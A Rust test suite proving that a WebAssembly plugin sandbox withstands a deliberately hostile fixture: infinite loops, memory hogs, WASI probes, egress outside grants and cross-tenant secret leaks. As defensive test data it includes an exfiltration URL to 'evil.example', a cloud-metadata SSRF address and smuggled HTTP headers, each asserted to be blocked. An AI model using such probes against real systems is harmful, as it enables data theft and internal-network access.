//! Sandbox proof: deliberately hostile components cannot take the host down, escape
//! their limits, reach the network or see the host through WASI.

use std::sync::atomic::Ordering;
use std::time::{Duration, Instant};
use switchboard::plugins::bundled::{self, WASM_DIR};
use switchboard::plugins::capture::CaptureServer;
use switchboard::plugins::types::{Content, Message, SendOutcome, SignatureError, SmsMessage};
use switchboard::plugins::{Grants, Plugin, PluginError, PluginRuntime, RuntimeConfig};

fn runtime(guest_time: Duration) -> PluginRuntime {
    PluginRuntime::new(RuntimeConfig {
        guest_time_budget: guest_time,
        send_guest_time_budget: guest_time,
        http_timeout: Duration::from_millis(500),
        max_instances: 16,
        ..RuntimeConfig::default()
    })
    .expect("runtime")
}

fn fixture(name: &str) -> Vec<u8> {
    let path = format!("{WASM_DIR}/switchboard_fixture_{name}.wasm");
    std::fs::read(&path)
        .unwrap_or_else(|e| panic!("fixture {path} missing (built by host/build.rs): {e}"))
}

async fn hostile(rt: &PluginRuntime, grants: Grants<'_>) -> Plugin {
    rt.load(&fixture("hostile"), grants)
        .await
        .expect("hostile fixture loads")
}

async fn provc(rt: &PluginRuntime) -> Plugin {
    rt.load(bundled::find("provc").unwrap().wasm, Grants::Declared)
        .await
        .unwrap()
}

/// A provC signature check that must succeed: proof the host still serves.
async fn healthy_call(plugin: &Plugin) {
    let body = b"{}";
    let sig = hex::encode(switchboard::crypto::hmac_sha256(b"k", body));
    let headers = vec![("X-provC-Signature".to_string(), sig)];
    assert_eq!(
        plugin.verify_signature("k", &headers, body, 0).await,
        Ok(Ok(()))
    );
}

fn sms(event_id: &str) -> Message {
    Message {
        event_id: event_id.into(),
        idempotency_key: format!("{}.1", event_id),
        subscriber_id: "s".into(),
        content: Content::Sms(SmsMessage {
            to: "+14155550100".into(),
            sender: None,
            text: "hi".into(),
        }),
        extra_params: vec![],
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn infinite_loop_is_interrupted_while_the_host_keeps_serving() {
    // Seconds: the healthy calls below must all end while the loop runs, on a loaded
    // machine too.
    let budget = Duration::from_secs(3);
    let rt = runtime(budget);
    let bad = hostile(&rt, Grants::Declared).await;
    let good = provc(&rt).await;

    let started = Instant::now();
    let looping = tokio::spawn({
        let bad = bad.clone();
        async move { bad.verify_signature("loop", &[], b"", 0).await }
    });
    tokio::time::sleep(Duration::from_millis(100)).await;
    for _ in 0..10 {
        healthy_call(&good).await;
    }
    assert!(
        !looping.is_finished(),
        "the loop should still be running while others are served"
    );
    let result = looping.await.unwrap();
    let elapsed = started.elapsed();
    assert_eq!(result, Err(PluginError::Timeout(budget)));
    assert!(elapsed >= budget, "interrupted too early: {elapsed:?}");
    assert!(
        elapsed < budget + Duration::from_secs(5),
        "interrupted too late: {elapsed:?}"
    );
    assert_eq!(bad.stats().failures.load(Ordering::Relaxed), 1);
    // The plugin itself is still usable: the next call gets a fresh instance.
    assert_eq!(bad.verify_signature("fine", &[], b"", 0).await, Ok(Ok(())));
}

/// A guest waiting inside a WASI host call (a sleep on a clock pollable) gets no epoch
/// tick, so the guest-time budget alone never ends it: the call's wall-clock limit
/// (budget + 1 s) does, for every such call at once, and the instance slots they held
/// serve again. Before, each waited an hour, and a callback with it.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_guest_asleep_in_a_host_call_is_cut_off() {
    let rt = runtime(Duration::from_millis(300));
    let bad = hostile(&rt, Grants::Declared).await;
    let good = provc(&rt).await;
    let started = Instant::now();
    let sleepers: Vec<_> = (0..4)
        .map(|_| {
            let bad = bad.clone();
            tokio::spawn(async move { bad.verify_signature("sleep", &[], b"", 0).await })
        })
        .collect();
    healthy_call(&good).await;
    for sleeper in sleepers {
        assert_eq!(
            sleeper.await.unwrap(),
            Err(PluginError::Timeout(Duration::from_millis(300)))
        );
    }
    let elapsed = started.elapsed();
    assert!(
        elapsed < Duration::from_secs(5),
        "cut off too late: {elapsed:?}"
    );
    assert_eq!(bad.stats().failures.load(Ordering::Relaxed), 4);
    assert_eq!(bad.verify_signature("fine", &[], b"", 0).await, Ok(Ok(())));
    healthy_call(&good).await;
}

#[tokio::test]
async fn memory_hog_is_stopped_at_the_limit() {
    let rt = runtime(Duration::from_secs(5));
    let bad = hostile(&rt, Grants::Declared).await;
    let limit = rt.config().memory_limit_bytes;
    assert_eq!(limit, 32 << 20, "default limit is 32 MiB");
    assert_eq!(
        bad.verify_signature("hog", &[], b"", 0).await,
        Err(PluginError::MemoryLimit(limit))
    );
    healthy_call(&provc(&rt).await).await;
    assert_eq!(bad.verify_signature("fine", &[], b"", 0).await, Ok(Ok(())));
}

/// Data a plugin hands the host is copied out of its memory: strings that name the same
/// bytes many times cannot have the host allocate more than the instance's memory limit
/// in one call (the log call below asks for 40 MiB out of 1 MiB).
#[tokio::test]
async fn a_call_copies_no_more_out_of_a_plugin_than_its_memory_limit() {
    let rt = runtime(Duration::from_secs(5));
    let bad = hostile(&rt, Grants::Declared).await;
    assert_eq!(rt.config().memory_limit_bytes, 32 << 20);
    // 16 MiB: under the limit, copied and logged.
    assert_eq!(
        bad.verify_signature("alias:8", &[], b"", 0).await,
        Ok(Ok(()))
    );
    match bad.verify_signature("alias:20", &[], b"", 0).await {
        Err(PluginError::Trap(msg)) => assert!(msg.contains("too much data"), "{msg}"),
        other => panic!("expected the copy to be refused, got {other:?}"),
    }
    assert_eq!(bad.verify_signature("fine", &[], b"", 0).await, Ok(Ok(())));
    healthy_call(&provc(&rt).await).await;
}

#[tokio::test]
async fn traps_are_reported_as_failed_calls() {
    let rt = runtime(Duration::from_secs(2));
    let bad = hostile(&rt, Grants::Declared).await;
    match bad.verify_signature("trap", &[], b"", 0).await {
        Err(PluginError::Trap(msg)) => assert!(
            msg.contains("unreachable"),
            "panic=abort traps as unreachable: {msg}"
        ),
        other => panic!("expected a trap, got {other:?}"),
    }
    match bad.verify_signature("recurse", &[], b"x", 0).await {
        // The shadow stack lives in linear memory: overflowing it is an out-of-bounds trap.
        Err(PluginError::Trap(msg)) => assert!(
            msg.contains("out of bounds") || msg.contains("stack"),
            "stack overflow: {msg}"
        ),
        other => panic!("expected a stack-overflow trap, got {other:?}"),
    }
    assert_eq!(bad.stats().failures.load(Ordering::Relaxed), 2);
    healthy_call(&provc(&rt).await).await;
}

#[tokio::test]
async fn a_session_is_discarded_after_a_trap() {
    let rt = runtime(Duration::from_secs(2));
    let bad = hostile(&rt, Grants::Declared).await;
    let mut session = bad
        .session(switchboard::plugins::runtime::CallKind::Quick)
        .await
        .unwrap();
    assert!(session.verify_signature("trap", &[], b"", 0).await.is_err());
    match session.verify_signature("fine", &[], b"", 0).await {
        Err(PluginError::Trap(msg)) => assert!(msg.contains("discarded"), "{msg}"),
        other => panic!("a trapped instance must not be reused, got {other:?}"),
    }
}

#[tokio::test]
async fn wasi_grants_no_environment_files_clocks_or_sockets() {
    let rt = runtime(Duration::from_secs(2));
    let bad = hostile(&rt, Grants::Declared).await;
    // SAFETY-free: the test process certainly has an environment, /etc and a clock.
    assert!(std::env::vars().next().is_some());
    for probe in ["env", "file", "dir", "clock", "socket"] {
        assert_eq!(
            bad.verify_signature(probe, &[], b"", 0).await,
            Ok(Err(SignatureError::Mismatch)),
            "probe {probe:?} saw something it should not"
        );
    }
}

#[tokio::test]
async fn egress_outside_the_grant_is_denied() {
    let rt = runtime(Duration::from_secs(2));
    let capture = CaptureServer::start().await.unwrap();
    let config = |url: &str| vec![("target_url".to_string(), url.to_string())];

    // Declared grant is `127.0.0.1` (any port): a host name outside it is denied.
    let declared = hostile(&rt, Grants::Declared).await;
    let outcome = declared
        .send(&config("http://evil.example/exfiltrate"), &sms("evt_1"))
        .await
        .unwrap();
    assert!(
        matches!(&outcome, SendOutcome::Rejected(r) if r.code == "egress-denied" && !r.retryable),
        "{outcome:?}"
    );
    assert_eq!(declared.stats().egress_denied.load(Ordering::Relaxed), 1);
    assert_eq!(
        declared.stats().denied_hosts(),
        vec!["evil.example".to_string()]
    );

    // The operator grants nothing: even the capture server on loopback is unreachable.
    let nothing: Vec<String> = vec![];
    let denied = hostile(&rt, Grants::Exactly(&nothing)).await;
    let outcome = denied
        .send(&config(&capture.url()), &sms("evt_2"))
        .await
        .unwrap();
    assert!(
        matches!(&outcome, SendOutcome::Rejected(r) if r.code == "egress-denied"),
        "{outcome:?}"
    );
    assert!(
        capture.take_requests().is_empty(),
        "a denied request must never leave the host"
    );

    // Granted exactly: the request arrives.
    let grant = vec![capture.host_port()];
    let granted = hostile(&rt, Grants::Exactly(&grant)).await;
    let outcome = granted
        .send(&config(&format!("{}/in", capture.url())), &sms("evt_3"))
        .await
        .unwrap();
    assert!(
        matches!(&outcome, SendOutcome::Accepted(a) if a.provider_message_id == "got-200"),
        "{outcome:?}"
    );
    let requests = capture.take_requests();
    assert_eq!(requests.len(), 1);
    assert_eq!(requests[0].path, "/in");
    assert_eq!(granted.stats().http_requests.load(Ordering::Relaxed), 1);
}

/// Only `send` reaches the network: a plugin verifying a callback holds a tenant's
/// webhook secret, and must have no way to send it anywhere, granted host or not.
#[tokio::test]
async fn verifying_a_callback_makes_no_outbound_request() {
    let rt = runtime(Duration::from_secs(2));
    let capture = CaptureServer::start().await.unwrap();
    let grant = vec![capture.host_port()];
    let plugin = hostile(&rt, Grants::Exactly(&grant)).await;
    let probe = format!("http:{}/leak", capture.url());
    assert_eq!(
        plugin.verify_signature(&probe, &[], b"{}", 0).await,
        Ok(Err(SignatureError::Mismatch)),
        "the request must be refused"
    );
    assert!(capture.take_requests().is_empty(), "nothing left the host");
    assert_eq!(plugin.stats().egress_denied.load(Ordering::Relaxed), 1);
}

#[tokio::test]
async fn a_granted_name_resolving_to_loopback_is_denied_unless_opted_in() {
    let rt = runtime(Duration::from_secs(2));
    let capture = CaptureServer::start().await.unwrap();
    let port = capture.host_port().rsplit_once(':').unwrap().1.to_string();
    // `localhost` resolves to loopback, where the capture server listens.
    let config = vec![(
        "target_url".to_string(),
        format!("http://localhost:{port}/in"),
    )];

    // Granted by name only: the name resolves to loopback, so the host refuses it.
    let grant = vec![format!("localhost:{port}")];
    let named = hostile(&rt, Grants::Exactly(&grant)).await;
    let outcome = named.send(&config, &sms("evt_1")).await.unwrap();
    assert!(
        matches!(&outcome, SendOutcome::Rejected(r) if r.code == "egress-denied" && !r.retryable),
        "{outcome:?}"
    );
    assert!(
        capture.take_requests().is_empty(),
        "a name resolving to loopback must not be connected to"
    );
    assert_eq!(named.stats().egress_denied.load(Ordering::Relaxed), 1);
    assert_eq!(named.stats().http_requests.load(Ordering::Relaxed), 0);
    assert_eq!(
        named.stats().denied_hosts(),
        vec![format!("localhost:{port} (a loopback address)")]
    );

    // The operator opts the name in to private addresses: the request arrives.
    let grant = vec![format!("private:localhost:{port}")];
    let opted_in = hostile(&rt, Grants::Exactly(&grant)).await;
    let outcome = opted_in.send(&config, &sms("evt_2")).await.unwrap();
    assert!(
        matches!(&outcome, SendOutcome::Accepted(a) if a.provider_message_id == "got-200"),
        "{outcome:?}"
    );
    assert_eq!(capture.take_requests().len(), 1);
    assert_eq!(opted_in.stats().egress_denied.load(Ordering::Relaxed), 0);
}

/// A provider stand-in speaking raw HTTP/1.1: every request gets `status` with a body
/// that says it is 1,000 bytes long; it sends 10 of them, then (after `stall`, if any)
/// closes the connection.
async fn cut_off_server(status: u16, stall: Option<Duration>) -> std::net::SocketAddr {
    use tokio::io::{AsyncReadExt, AsyncWriteExt};
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let addr = listener.local_addr().unwrap();
    tokio::spawn(async move {
        while let Ok((mut conn, _)) = listener.accept().await {
            tokio::spawn(async move {
                // The whole request (headers, then the body they announce) first.
                let mut request = Vec::new();
                let mut buf = [0u8; 4096];
                loop {
                    let Ok(n @ 1..) = conn.read(&mut buf).await else {
                        return;
                    };
                    request.extend_from_slice(&buf[..n]);
                    let text = String::from_utf8_lossy(&request).to_ascii_lowercase();
                    if let Some(end) = text.find("\r\n\r\n") {
                        let length: usize = text[..end]
                            .lines()
                            .find_map(|l| l.strip_prefix("content-length:"))
                            .map_or(0, |v| v.trim().parse().unwrap());
                        if request.len() >= end + 4 + length {
                            break;
                        }
                    }
                }
                let head = format!(
                    "HTTP/1.1 {status} X\r\ncontent-type: application/json\r\n\
                     content-length: 1000\r\n\r\n{{\"sid\":\"SM"
                );
                let _ = conn.write_all(head.as_bytes()).await;
                let _ = conn.flush().await;
                if let Some(stall) = stall {
                    tokio::time::sleep(stall).await;
                }
            });
        }
    });
    addr
}

/// Once a provider's status has come, it has answered: a body cut off or too slow
/// after it reaches the plugin empty, so the status still decides (a 2xx took the
/// message: `invalid-response`, which the gateway never fails over; a 503 is a
/// refusal), where a transport error would have read as no answer at all.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_answer_cut_off_after_its_status_is_judged_by_its_status() {
    let rt = runtime(Duration::from_secs(2));
    for (status, stall, code) in [
        (200, None, "invalid-response"),
        (200, Some(Duration::from_secs(2)), "invalid-response"),
        (503, None, "http-503"),
    ] {
        let addr = cut_off_server(status, stall).await;
        let grant = vec![addr.to_string()];
        let plugin = rt
            .load(
                bundled::find("provc").unwrap().wasm,
                Grants::Exactly(&grant),
            )
            .await
            .unwrap();
        let config = vec![
            ("base_url".to_string(), format!("http://{addr}")),
            ("account_sid".to_string(), "AC1".to_string()),
            ("auth_token".to_string(), "t".to_string()),
        ];
        let outcome = plugin.send(&config, &sms("evt_cut")).await.unwrap();
        assert!(
            matches!(&outcome, SendOutcome::Rejected(r) if r.code == code),
            "{status} {stall:?}: {outcome:?}"
        );
    }
}

#[tokio::test]
async fn an_explicitly_granted_private_address_is_reached_and_no_other() {
    let rt = runtime(Duration::from_secs(2));
    let capture = CaptureServer::start().await.unwrap();
    let port = capture.host_port().rsplit_once(':').unwrap().1.to_string();
    let config = |url: &str| vec![("target_url".to_string(), url.to_string())];

    // The grant names the loopback address: reached, by that address.
    let grant = vec![capture.host_port()];
    let plugin = hostile(&rt, Grants::Exactly(&grant)).await;
    let outcome = plugin
        .send(&config(&format!("{}/in", capture.url())), &sms("evt_1"))
        .await
        .unwrap();
    assert!(
        matches!(&outcome, SendOutcome::Accepted(a) if a.provider_message_id == "got-200"),
        "{outcome:?}"
    );
    assert_eq!(capture.take_requests().len(), 1);

    // Neither the same server by name nor the metadata address comes with it.
    for url in [
        format!("http://localhost:{port}/in"),
        "http://169.254.169.254/latest/meta-data/".to_string(),
        format!("http://[::ffff:127.0.0.1]:{port}/in"),
    ] {
        let outcome = plugin.send(&config(&url), &sms("evt_2")).await.unwrap();
        assert!(
            matches!(&outcome, SendOutcome::Rejected(r) if r.code == "egress-denied"),
            "{url}: {outcome:?}"
        );
    }
    assert!(capture.take_requests().is_empty());
    assert_eq!(plugin.stats().egress_denied.load(Ordering::Relaxed), 3);

    // At the granted address, a `Host` of the plugin's choosing (another virtual host
    // behind it) or framing of its own is refused before anything is sent.
    for header in [
        "Host: admin.internal",
        "Transfer-Encoding: chunked",
        "Content-Length: 1",
        "Connection: upgrade",
    ] {
        let mut with_header = config(&format!("{}/in", capture.url()));
        with_header.push(("header".to_string(), header.to_string()));
        let outcome = plugin.send(&with_header, &sms("evt_3")).await.unwrap();
        assert!(
            matches!(&outcome, SendOutcome::Rejected(r) if r.code == "invalid-request"),
            "{header}: {outcome:?}"
        );
    }
    assert!(capture.take_requests().is_empty());
    let mut with_header = config(&format!("{}/in", capture.url()));
    with_header.push(("header".to_string(), "X-Host: fine".to_string()));
    let outcome = plugin.send(&with_header, &sms("evt_4")).await.unwrap();
    assert!(matches!(&outcome, SendOutcome::Accepted(_)), "{outcome:?}");
    assert_eq!(capture.take_requests().len(), 1);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn more_calls_than_instance_slots_all_complete() {
    let rt = runtime(Duration::from_secs(2));
    let good = provc(&rt).await;
    let tasks: Vec<_> = (0..200)
        .map(|_| {
            let good = good.clone();
            tokio::spawn(async move { healthy_call(&good).await })
        })
        .collect();
    for t in tasks {
        t.await.unwrap();
    }
}

#[tokio::test]
async fn compiled_components_are_cached_on_disk() {
    let dir = tempfile::tempdir().unwrap();
    let config = RuntimeConfig {
        cache_dir: Some(dir.path().to_path_buf()),
        ..RuntimeConfig::default()
    };
    let wasm = bundled::find("prove").unwrap().wasm;
    let first = PluginRuntime::new(config.clone())
        .unwrap()
        .load(wasm, Grants::Declared)
        .await
        .unwrap();
    let files: Vec<_> = std::fs::read_dir(dir.path())
        .unwrap()
        .map(|e| e.unwrap().file_name())
        .collect();
    assert_eq!(files.len(), 1, "{files:?}");
    assert!(files[0].to_string_lossy().starts_with(first.digest()));
    // A second runtime (a restart) loads the artifact and the plugin works.
    let second = PluginRuntime::new(config)
        .unwrap()
        .load(wasm, Grants::Declared)
        .await
        .unwrap();
    assert_eq!(
        second.normalize_call_state("COMPLETED").await,
        Ok(switchboard::plugins::types::DeliveryStatus::Delivered)
    );
    // A corrupt artifact is replaced, not trusted.
    let path = dir.path().join(&files[0]);
    std::fs::write(&path, b"garbage").unwrap();
    let third = PluginRuntime::new(RuntimeConfig {
        cache_dir: Some(dir.path().to_path_buf()),
        ..RuntimeConfig::default()
    })
    .unwrap()
    .load(wasm, Grants::Declared)
    .await
    .unwrap();
    assert_eq!(
        third.normalize_call_state("BUSY").await,
        Ok(switchboard::plugins::types::DeliveryStatus::Failed)
    );
    assert!(std::fs::read(&path).unwrap().len() > 1000);
}

#[tokio::test]
async fn not_a_component_is_rejected_with_a_reason() {
    let rt = runtime(Duration::from_secs(1));
    match rt.load(b"\0asm\x01\0\0\0", Grants::Declared).await {
        Err(PluginError::Invalid(msg)) => {
            assert!(msg.contains("not a loadable component"), "{msg}")
        }
        other => panic!("{other:?}"),
    }
    assert!(matches!(
        rt.load(b"hello", Grants::Declared).await,
        Err(PluginError::Invalid(_))
    ));
}

/// The calls of one callback (signature checks under several secrets, then the parse)
/// run on one instance, each with its own budget, except that a parse after more than
/// one secret gets a fresh instance; a native plugin has no instance.
#[tokio::test]
async fn a_callbacks_calls_share_one_instance() {
    use switchboard::plugins::session::Calls;
    let rt = runtime(Duration::from_secs(1));
    let plugin = provc(&rt).await;
    let body = br#"{"message_id":"SM1","status":"DELIVERED"}"#;
    let sig = hex::encode(switchboard::crypto::hmac_sha256(b"right", body));
    let headers = vec![("X-provC-Signature".to_string(), sig)];
    let stats = plugin.stats();
    let (calls, instances) = (
        stats.calls.load(Ordering::Relaxed),
        stats.instances.load(Ordering::Relaxed),
    );
    let mut one = Calls::new(&plugin);
    assert_eq!(
        one.verify_signature(None, "wrong", &headers, body, 0).await,
        Ok(Err(SignatureError::Mismatch))
    );
    assert_eq!(
        one.verify_signature(None, "right", &headers, body, 0).await,
        Ok(Ok(()))
    );
    // Instantiating counts as a call of its own.
    assert_eq!(stats.calls.load(Ordering::Relaxed), calls + 3);
    assert_eq!(stats.instances.load(Ordering::Relaxed), instances + 1);
    let receipts = one.parse_receipt(&headers, body).await.unwrap().unwrap();
    assert_eq!(receipts[0].provider_message_id, "SM1");
    drop(one);
    assert_eq!(stats.instances.load(Ordering::Relaxed), instances + 2);
    // One secret: the parse shares its instance.
    let mut one = Calls::new(&plugin);
    one.verify_signature(None, "right", &headers, body, 0)
        .await
        .unwrap()
        .unwrap();
    one.parse_receipt(&headers, body).await.unwrap().unwrap();
    drop(one);
    assert_eq!(stats.instances.load(Ordering::Relaxed), instances + 3);
    // Without it, every call is an instance of its own.
    plugin
        .verify_signature("right", &headers, body, 0)
        .await
        .unwrap()
        .unwrap();
    plugin.parse_receipt(&headers, body).await.unwrap().unwrap();
    assert_eq!(stats.instances.load(Ordering::Relaxed), instances + 5);
}

/// A parse after checks under several secrets (several tenants', or the provider-wide
/// one) does not run where those secrets were handed: a plugin that keeps what it saw
/// cannot put one tenant's secret in the receipt another tenant reads back. With one
/// secret it shares the instance (see docs/plugins.md for the provider-wide case).
#[tokio::test]
async fn a_parse_after_several_secrets_sees_none_of_them() {
    use switchboard::plugins::session::Calls;
    let rt = runtime(Duration::from_secs(1));
    let bad = hostile(&rt, Grants::Declared).await;
    let mut calls = Calls::new(&bad);
    assert_eq!(
        calls
            .verify_signature(None, "mismatch-tenant-a", &[], b"", 0)
            .await,
        Ok(Err(SignatureError::Mismatch))
    );
    assert_eq!(
        calls.verify_signature(None, "tenant-b", &[], b"", 0).await,
        Ok(Ok(()))
    );
    let receipts = calls.parse_receipt(&[], b"").await.unwrap().unwrap();
    assert_eq!(receipts[0].bounce_reason.as_deref(), Some(""));
    drop(calls);
    let mut calls = Calls::new(&bad);
    assert_eq!(
        calls.verify_signature(None, "tenant-b", &[], b"", 0).await,
        Ok(Ok(()))
    );
    let receipts = calls.parse_receipt(&[], b"").await.unwrap().unwrap();
    assert_eq!(receipts[0].bounce_reason.as_deref(), Some("tenant-b"));
}

/// What a hostile plugin's instance has been handed so far, read back through a
/// callback's parse: `secret` checked under `workspace`'s name, then the parse.
async fn seen_after(plugin: &Plugin, workspace: Option<&str>, secret: &str) -> String {
    use switchboard::plugins::session::Calls;
    let mut calls = Calls::new(plugin);
    assert_eq!(
        calls.verify_signature(workspace, secret, &[], b"", 0).await,
        Ok(Ok(()))
    );
    let receipts = calls.parse_receipt(&[], b"").await.unwrap().unwrap();
    receipts[0].bounce_reason.clone().unwrap_or_default()
}

/// An instance is kept between one workspace's callbacks (its state survives: the
/// hostile plugin shows every secret it was handed), and never serves another
/// workspace's, a callback under the provider-wide secret, or one after a check that
/// handed it two workspaces' secrets.
#[tokio::test]
async fn a_kept_instance_serves_its_own_workspace_only() {
    use switchboard::plugins::session::Calls;
    let rt = runtime(Duration::from_secs(1));
    let bad = hostile(&rt, Grants::Declared).await;
    assert_eq!(seen_after(&bad, Some("ws_a"), "a1").await, "a1");
    assert_eq!(bad.kept_instances(), 1);
    assert_eq!(
        seen_after(&bad, Some("ws_a"), "a2").await,
        "a1,a2",
        "kept for the same workspace"
    );
    assert_eq!(seen_after(&bad, Some("ws_b"), "b1").await, "b1");
    assert_eq!(bad.kept_instances(), 2);
    // The provider-wide secret's receipts may reach any tenant: never kept.
    assert_eq!(seen_after(&bad, None, "pw1").await, "pw1");
    assert_eq!(seen_after(&bad, None, "pw2").await, "pw2");
    assert_eq!(bad.kept_instances(), 2);
    // Checks under two workspaces' secrets on ws_a's kept instance: it is dropped, and
    // the parse runs in ws_b's.
    let mut calls = Calls::new(&bad);
    assert_eq!(
        calls
            .verify_signature(Some("ws_a"), "mismatch-a3", &[], b"", 0)
            .await,
        Ok(Err(SignatureError::Mismatch))
    );
    assert_eq!(
        calls
            .verify_signature(Some("ws_b"), "b2", &[], b"", 0)
            .await,
        Ok(Ok(()))
    );
    let receipts = calls.parse_receipt(&[], b"").await.unwrap().unwrap();
    assert_eq!(receipts[0].bounce_reason.as_deref(), Some("b1"));
    drop(calls);
    assert_eq!(
        seen_after(&bad, Some("ws_a"), "a4").await,
        "a4",
        "the instance that saw ws_b's secret was not kept for ws_a"
    );
    // Another load of the same component (a swap) has instances of its own.
    let other = hostile(&rt, Grants::Declared).await;
    assert_eq!(seen_after(&other, Some("ws_a"), "o1").await, "o1");
    let kept = bad.kept_instances();
    bad.forget_kept();
    assert_eq!(bad.kept_instances(), kept - 2, "ws_a's and ws_b's of `bad`");
    drop(bad);
    assert_eq!(seen_after(&other, Some("ws_a"), "o2").await, "o1,o2");
    drop(other);
    let third = hostile(&rt, Grants::Declared).await;
    assert_eq!(
        third.kept_instances(),
        0,
        "a dropped load's instances go with it"
    );
}

/// A call that trapped, or that was cut off mid-way (its future dropped), leaves its
/// instance unkept: the next call of the workspace starts afresh.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_instance_is_not_kept_after_a_failed_or_cut_off_call() {
    use switchboard::plugins::session::Calls;
    let rt = runtime(Duration::from_secs(1));
    let bad = hostile(&rt, Grants::Declared).await;
    let mut calls = Calls::new(&bad);
    assert!(
        calls
            .verify_signature(Some("ws_a"), "trap", &[], b"", 0)
            .await
            .is_err()
    );
    drop(calls);
    assert_eq!(bad.kept_instances(), 0);
    assert_eq!(seen_after(&bad, Some("ws_a"), "a1").await, "a1");
    let mut calls = Calls::new(&bad);
    let cut = tokio::time::timeout(
        Duration::from_millis(200),
        calls.verify_signature(Some("ws_a"), "sleep", &[], b"", 0),
    )
    .await;
    assert!(cut.is_err(), "the sleep is cut off by the caller");
    drop(calls);
    assert_eq!(bad.kept_instances(), 0);
    assert_eq!(
        seen_after(&bad, Some("ws_a"), "a2").await,
        "a2",
        "neither the trapped nor the cut-off instance was kept"
    );
}

/// An instance is replaced after `keep_calls` calls, and one whose memory grew past
/// `keep_memory_bytes` is not kept at all.
#[tokio::test]
async fn an_instance_is_replaced_after_its_share_of_calls_or_past_its_memory() {
    let rt = PluginRuntime::new(RuntimeConfig {
        guest_time_budget: Duration::from_secs(1),
        max_instances: 16,
        // Instantiating, then a check and a parse: 3 calls; a second callback makes 5.
        keep_calls: 4,
        ..RuntimeConfig::default()
    })
    .unwrap();
    let bad = hostile(&rt, Grants::Declared).await;
    assert_eq!(seen_after(&bad, Some("ws_a"), "a1").await, "a1");
    assert_eq!(seen_after(&bad, Some("ws_a"), "a2").await, "a1,a2");
    assert_eq!(bad.kept_instances(), 0, "it has served its share");
    assert_eq!(seen_after(&bad, Some("ws_a"), "a3").await, "a3");

    let rt = PluginRuntime::new(RuntimeConfig {
        guest_time_budget: Duration::from_secs(1),
        max_instances: 16,
        keep_memory_bytes: 64 << 10,
        ..RuntimeConfig::default()
    })
    .unwrap();
    let bad = hostile(&rt, Grants::Declared).await;
    assert_eq!(seen_after(&bad, Some("ws_a"), "m1").await, "m1");
    assert_eq!(bad.kept_instances(), 0, "its memory is larger than 64 KiB");
    assert_eq!(seen_after(&bad, Some("ws_a"), "m2").await, "m2");
}

/// A workspace's sends share an instance; another workspace's, or a send named for
/// none, get instances of their own.
#[tokio::test]
async fn a_workspaces_sends_run_in_the_instance_its_last_send_left() {
    let rt = runtime(Duration::from_secs(1));
    let bad = hostile(&rt, Grants::Declared).await;
    // Nothing listens there: the send is refused by the provider, a clean call.
    let config = vec![("target_url".to_string(), "http://127.0.0.1:9/".to_string())];
    let instances = || bad.stats().instances.load(Ordering::Relaxed);
    let before = instances();
    for (workspace, made) in [
        (Some("ws_a"), 1),
        (Some("ws_a"), 1),
        (Some("ws_b"), 2),
        (Some("ws_a"), 2),
        (None, 3),
        (None, 4),
    ] {
        let slot = bad.slot().await.unwrap();
        let outcome = bad
            .send_in(slot, workspace, &config, &sms("evt_kept"))
            .await
            .unwrap();
        assert!(matches!(outcome, SendOutcome::Rejected(_)), "{outcome:?}");
        assert_eq!(instances() - before, made, "after a send for {workspace:?}");
    }
}
